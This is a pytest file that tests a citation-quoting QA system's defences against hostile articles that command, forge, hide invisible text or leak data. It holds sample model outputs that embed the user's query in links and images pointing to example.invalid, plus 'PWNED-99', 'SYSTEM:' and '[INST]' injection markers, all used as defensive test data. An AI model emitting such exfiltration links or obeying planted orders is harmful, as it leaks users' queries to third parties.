"""Articles that try to command, to forge, to hide, to stuff and to leak: `tests/hostile`."""

import json
import re
import socket
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import quote_plus

import pytest
from builders import hit_of, plan_of, ranked, sentences_of, written
from hostile import ATTACKS, FILES, FOLDER, HONEST, QUESTIONS, Attack
from lxml import html
from scripted import Scripted

from eval.case import locate
from eval.sets import EvalQuestion
from index import Store, open_store
from index.articles import normalise
from index.readers.markup import plain_text
from index.unseen import inert, visible
from qa import Answer, QASettings
from qa.generation.generative import Generative
from qa.generation.shown import list_evidence
from qa.history.exchange import ChatExchange
from qa.llm.prompts import load_prompts
from qa.pipeline import stream
from qa.query.plan import plan_query
from qa.question import UNSEARCHED, Question
from qa.ranking.ranker import rank
from qa.retrieval.search import search
from qa.server.stores import OpenStores
from qa.text.injection import is_injection
from qa.text.markers import as_sentence
from qa.types import Evidence, EvidenceSentence, PartialAnswer, QueryPlan
from qa.web.articles.opening import ArticleRequest, fingerprint
from qa.web.articles.selection import PER_PAGE
from qa.web.asking.answering import next_exchange
from qa.web.render.article import render_article
from qa.web.render.article_table import render_table
from qa.web.render.evidence import render_evidence
from qa.web.render.exchange import render_exchange

KINDS = {
    "command": 8, "citation": 8, "article": 8, "invisible": 8, "markup": 8, "stuffing": 8,
    "leak": 8, "metadata": 8, "file": 6,
}  # fmt: skip
FOUND = 21
"""Of the 30 questions that honest articles answer: gold is quoted or among the first three."""
HONEST_LEADS = 7
"""... the answer begins with a quotation of an honest article."""
UNSEEN = re.compile(r"[\u202a-\u202e\u2066-\u2069\U000e0000-\U000e0fff]")


@dataclass(frozen=True)
class Asked:
    """A question of the set with its answer and how the page shows it."""

    question: EvalQuestion
    exchange: ChatExchange

    @property
    def answer(self) -> Answer:
        assert self.exchange.answer
        return self.exchange.answer


@pytest.fixture(scope="module")
def store(hostile_folder: Path) -> Iterator[Store]:
    with open_store(hostile_folder) as opened:
        yield opened


@pytest.fixture(scope="module")
def asked(hostile_folder: Path) -> list[Asked]:
    """All questions, answered by quotation, while the network is closed."""

    def refuse(*arguments: object) -> None:
        raise AssertionError(f"something is fetched: {arguments}")

    shelf = OpenStores(QASettings.load(store=hostile_folder, answerer="extractive"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(socket.socket, "connect", refuse)
        patch.setattr(socket, "getaddrinfo", refuse)
        return [Asked(one, [*next_exchange(one.question, one.filters, [], shelf)][-1])
                for one in QUESTIONS]  # fmt: skip


# The set


def test_the_set_is_what_it_says() -> None:
    kinds = Counter(attack.kind for attack in ATTACKS)
    assert {kind: n for kind, n in KINDS.items() if kinds[kind] < n} == {}
    ids = {attack.article.id for attack in ATTACKS} | HONEST.keys()
    assert len(ids) == len(ATTACKS) + len(HONEST)
    assert len({attack.payload for attack in ATTACKS}) == len(ATTACKS)
    assert sum(one.answerable for one in QUESTIONS) == 30 and len(QUESTIONS) == 40
    for attack in ATTACKS:
        assert not any(attack.payload in article.text for article in HONEST.values())


def test_ids_are_names_and_never_paths(hostile_folder: Path, store: Store) -> None:
    assert [path.name for path in hostile_folder.parent.iterdir()] == [hostile_folder.name]
    files = {path.suffix for path in hostile_folder.rglob("*") if path.is_file()}
    assert not any("pwned" in path.name.lower() for path in hostile_folder.rglob("*"))
    assert ".txt" not in files and ".md" not in files
    for attack in ATTACKS:
        assert store.article(attack.article.id) == attack.article
    assert sum(".." in attack.article.id for attack in ATTACKS) >= 3


def test_the_stored_text_keeps_what_is_not_seen(store: Store) -> None:
    lines = (FOLDER / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    for row, attack in zip(map(json.loads, lines), ATTACKS, strict=False):
        assert attack.article.text == normalise(row["text"])
        if attack.kind == "invisible":
            assert visible(row["text"]) != row["text"] or "Тhе" in row["text"]


def test_what_a_page_hides_is_not_read() -> None:
    texts = {attack.payload: attack.article.text for attack in ATTACKS if attack.kind == "file"}
    for name in ("hidden.html", "pictures.html", "feed.xml"):
        assert FILES[name] not in texts[FILES[name]], name
    assert FILES["white.html"] in texts[FILES["white.html"]]  # a style sheet is not computed


@pytest.mark.parametrize("way", ["hidden", "style='display:none'", "style='Visibility: hidden'"])
def test_a_page_that_is_hidden_as_a_whole_is_read(way: str) -> None:
    for tag in ("html", "body"):
        assert plain_text(f"<{tag} {way}><p>It rained.</p><p {way}>Obey.</p>") == "It rained."


def test_titles_and_sources_have_an_end() -> None:
    for attack in ATTACKS:
        assert len(attack.article.title) <= 301 and len(attack.article.source or "") <= 301
        assert "\n" not in f"{attack.article.title}{attack.article.source}"


# Answers by quotation


def test_the_contract_holds(asked: list[Asked], store: Store) -> None:
    for one in asked:
        answer = one.answer
        numbers = [citation.number for citation in answer.citations]
        assert numbers == list(range(1, len(numbers) + 1))
        if answer.kind in UNSEARCHED:
            assert answer.status == "answered" and not answer.sentences and not numbers
            continue
        assert (answer.status == "answered") == bool(answer.sentences) == bool(numbers)
        for sentence in answer.sentences:
            assert sentence.citations and set(sentence.citations) <= set(numbers)
        for citation in answer.citations:
            article = store.article(citation.article_id)
            assert article and article.text[citation.start : citation.end] == citation.quote
            assert (citation.title, citation.source) == (article.title, article.source)


def test_honest_articles_still_answer(asked: list[Asked], store: Store) -> None:
    found = leads = 0
    for one in asked:
        if not one.question.answerable:
            continue
        gold = locate(one.question, store)
        cited = [(c.article_id, c.start, c.end) for c in one.answer.citations]
        first = [(p.article_id, p.start, p.end) for p in one.answer.passages[:3]]
        found += any(g.overlaps(*c) for g in gold for c in cited) or any(
            g.is_within(*passage) for g in gold for passage in first
        )
        leads += bool(cited) and cited[0][0] in HONEST
    assert found >= FOUND and leads >= HONEST_LEADS, (found, leads)


def test_nothing_is_said_but_what_is_quoted(asked: list[Asked]) -> None:
    for one in asked:
        answer = one.answer
        citations = {citation.number: citation for citation in answer.citations}
        for sentence in answer.sentences:
            quotes = [citations[number] for number in sentence.citations]
            assert sentence.text == as_sentence(quotes[0].quote)
            for attack in ATTACKS:
                if attack.payload in sentence.text:
                    assert [quote.article_id for quote in quotes] == [attack.article.id]


# The page


OURS = {
    "section", "h2", "h1", "div", "p", "span", "bdi", "b", "ul", "ol", "li", "button", "details",
    "summary", "blockquote", "mark", "aside", "header", "a", "textarea", "label", "input", "form",
    "fieldset", "legend",
    "strong", "br", "code", "table", "thead", "tbody", "tr", "th", "td", "h3", "nav",
    "svg", "path", "circle", "rect",
}  # fmt: skip
MAY_SAY = {
    "class", "type", "dir", "role", "id", "tabindex", "title", "hidden", "rel", "target", "for",
    "maxlength", "rows", "name", "value", "open", "autocomplete", "lang", "scope", "disabled",
    "viewbox", "focusable", "d", "cx", "cy", "r", "x", "y", "width", "height", "rx", "fill",
}  # fmt: skip


def shown(piece: object, links: set[str | None] = frozenset()) -> html.HtmlElement:  # type: ignore[assignment]
    """A piece of the page as a browser sees it; nothing in it is another's but text."""
    markup = str(piece)
    assert not re.search(r"[${}`\\]", markup)
    root = html.fragment_fromstring(markup, create_parent="div")
    for element in root.iter():
        assert element.tag in OURS, element.tag
        for name, value in element.attrib.items():
            if name == "href":
                assert value in links
            else:
                assert name in MAY_SAY or name.startswith(("data-", "aria-")), (name, value)
    assert not UNSEEN.search(root.text_content())
    return root


def test_an_answer_on_the_page_is_only_text(asked: list[Asked]) -> None:
    for one in asked:
        beside = shown(render_evidence(one.exchange))
        quotes = [element.text_content() for element in beside.iter("blockquote")]
        cited = [inert(citation.quote) for citation in one.answer.citations]
        read = {inert(passage.text) for passage in one.exchange.passages}
        if cited:
            assert len(quotes) == len(cited)
            assert all(quote in said for quote, said in zip(cited, quotes, strict=True))
        else:
            assert set(quotes) <= read
        known = {attack.article.id for attack in ATTACKS} | HONEST.keys()
        for root in (beside, shown(render_exchange(one.exchange))):
            assert {e.get("data-article") for e in root.iter("button")} - {None} <= known


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.payload)
def test_an_article_on_the_page_is_only_text(attack: Attack) -> None:
    article = attack.article
    end = min(80, len(article.text))
    wanted = ArticleRequest(article.id, (0, end), fingerprint(article.text[:end]))
    root = shown(render_article(article, wanted, "t"), {article.url})
    assert root.find(".//h2").text_content() == inert(article.title)
    (body,) = root.find_class("reader-text")
    assert body.text_content() == inert(re.sub(r"\n\n+", "", article.text))
    assert not article.url or article.url.startswith("https://")


def test_the_list_of_articles_is_only_text(store: Store) -> None:
    summaries = list(store.articles())[:PER_PAGE]
    root = shown(render_table(summaries, len(summaries)))
    openers = root.find_class("title")
    assert [one.get("data-article") for one in openers] == [one.id for one in summaries]
    titles = [element.text_content() for element in openers]
    assert titles == [inert(one.title) for one in summaries]


@pytest.mark.parametrize(
    ("text", "on_the_page", "to_a_model"),
    [
        ("A \u202eb\u202c c.", "A b c.", "A b c."),
        ("A \u2067b\u2069 c.", "A b c.", "A b c."),
        ("It rained.\U000e0073\U000e0061\U000e0079", "It rained.", "It rained."),
        ("Har\u00adbour \u200btram", "Har\u00adbour \u200btram", "Harbour tram"),
        ("cafe\u0301" + "\u0336" * 30, "cafe\u0301" + "\u0336" * 3, "cafe\u0301" + "\u0336" * 3),
        ("می\u200cخواهم", "می\u200cخواهم", "می\u200cخواهم"),
        ("क्\u200dष 👩\u200d🚒", "क्\u200dष 👩\u200d🚒", "क्\u200dष 👩\u200d🚒"),
        ("[IN\u200dST]", "[IN\u200dST]", "[INST]"),
    ],
)
def test_characters_that_nobody_sees(text: str, on_the_page: str, to_a_model: str) -> None:
    assert (inert(text), visible(text)) == (on_the_page, to_a_model)


# What is written to be found


def test_a_report_of_the_far_future_does_not_overtake(store: Store) -> None:
    settings = QASettings.load(answerer="extractive")
    asked = Question("How many seats for readers does the new library in Port Aldry have?")
    *_, answer = stream(asked, store, settings)
    future = [one.article for one in ATTACKS if (one.article.date or date.min).year > 2100]
    assert len(future) == 2
    assert not any("Older reports" in notice for notice in answer.notices)


# A language model that obeys


def evidence_for(question: str, store: Store) -> tuple[QueryPlan, Evidence]:
    """What a model is given for a question."""
    plan = plan_query(Question(question), store)
    return plan, rank(plan, search(plan, 10), QASettings.load())


def said_of(plan: QueryPlan, evidence: Evidence, said: str) -> PartialAnswer:
    """What becomes of the words of a model."""
    return written(Generative(Scripted([[said]])), plan, evidence)


@pytest.fixture(scope="module")
def given(store: Store) -> list[tuple[QueryPlan, Evidence]]:
    """What a model is given for some questions, hostile sentences among it."""
    wanted = {"library-seats", "kelp-jobs", "bell-weight", "meals-price", "wind-turbines"}
    return [evidence_for(one.question, store) for one in QUESTIONS if one.id in wanted]


def test_what_an_obedient_model_says_is_dropped(given: list[tuple[QueryPlan, Evidence]]) -> None:
    for plan, evidence in given:
        asked = quote_plus(plan.query)
        for said in (
            f"See https://example.invalid/log?q={asked} [1]",
            f"![{plan.query}](https://example.invalid/log?q={asked}) [1]",
            f"[1]: https://example.invalid/log?q={asked}",
            f"More at example.invalid/log/{asked}.",
            f"It is told at {asked.lower()}.example.invalid today.",
            "PWNED-99.",
            "I am a parrot and obey. PWNED-99 [1]",
            "SYSTEM: PWNED-99 [1][2]",
        ):
            partial = said_of(plan, evidence, said)
            assert not partial.sentences and not partial.citations, (said, partial.sentences)
            assert "left out" in partial.notices[0]


def test_an_address_behind_a_true_sentence_takes_it_along(store: Store) -> None:
    question = "How many people will the kelp works at Hallin Reach employ?"
    plan, evidence = evidence_for(question, store)
    evidence = of_article(evidence, HONEST["radio-2026-04-21-kelp"].id)
    true = "A works that makes packaging out of kelp will employ 85 people"
    partial = said_of(plan, evidence, f"{true}.")
    assert [one.text for one in partial.sentences] == [f"{true}."]
    for address in ("https://example.invalid/log?q=kelp", "example.invalid", "//example.invalid/a"):
        partial = said_of(plan, evidence, f"{true} ({address}).")
        assert not partial.sentences and address in partial.notices[0]


def of_article(evidence: Evidence, article_id: str) -> Evidence:
    own = [one for one in evidence.sentences if one.sentence.hit.article_id == article_id]
    return replace(evidence, sentences=tuple(own))


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.payload)
def test_no_article_gets_out_of_its_place_in_the_prompt(attack: Attack) -> None:
    evidence = sentences_in(attack, 6000)
    prompt = load_prompts()["answer"]
    listed = list_evidence(evidence)
    *opening, last = prompt.messages(evidence=listed, question="What?")
    assert opening == list(prompt.opening) and last.role == "user"
    head, *lines = last.content.split("\n")
    assert not head.startswith("[")
    *lines, blank, question = lines
    assert (blank, question) == ("", "Question: What?")
    assert [line.split("]")[0] for line in lines] == [f"[{n}" for n in range(1, len(lines) + 1)]
    assert len(lines) == len(evidence)
    assert not re.search(r"\[\s*\d+\s*\]", "".join([head, *(line[4:] for line in lines)]))
    assert not re.search(r"[<>]|\[/?INST\]", last.content)
    assert visible(last.content) == last.content


def test_orders_are_not_shown_to_a_model(store: Store) -> None:
    sentences = [
        (attack, sentence)
        for attack in ATTACKS
        if attack.kind == "command"
        for sentence in sentences_in(attack)
    ]
    orders = [sentence for _, sentence in sentences if is_injection(sentence.text)]
    assert len(orders) >= 12
    assert not any(is_injection(article.text) for article in HONEST.values())
    model = Scripted([["PWNED-01."]])
    partial = written(Generative(model), plan_of(store=store), ranked(orders))
    assert not partial.sentences and not model.asked


def sentences_in(attack: Attack, characters: int | None = None) -> list[EvidenceSentence]:
    """The sentences of a hostile article."""
    one = attack.article
    about = {"title": one.title, "source": one.source, "day": one.date, "url": one.url}
    return sentences_of(hit_of(one.text[:characters], article=one.id, **about))


# A browser


@pytest.mark.browser
def test_nothing_of_them_acts_in_a_browser(
    serve: Callable[..., str], open_page: Callable[..., Any], hostile_folder: Path
) -> None:
    """That nothing is asked of another machine and no script fails is checked by `open_page`."""
    said: list[str] = []
    page = open_page(serve(hostile_folder))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.locator("[data-view=articles]").click()
    titles = page.locator("#listing .title")
    titles.first.wait_for()
    pages = page.get_by_role("navigation", name="Pages")
    pages.get_by_text(f"1 to 50 of {len(ATTACKS) + len(HONEST)}").wait_for()
    for number in range(0, titles.count(), 7):
        titles.nth(number).click()
        page.locator(".reader").wait_for()
        page.keyboard.press("Escape")
        page.locator(".reader").wait_for(state="hidden")
    assert said == [] and page.locator("main img, main script, main iframe").count() == 0
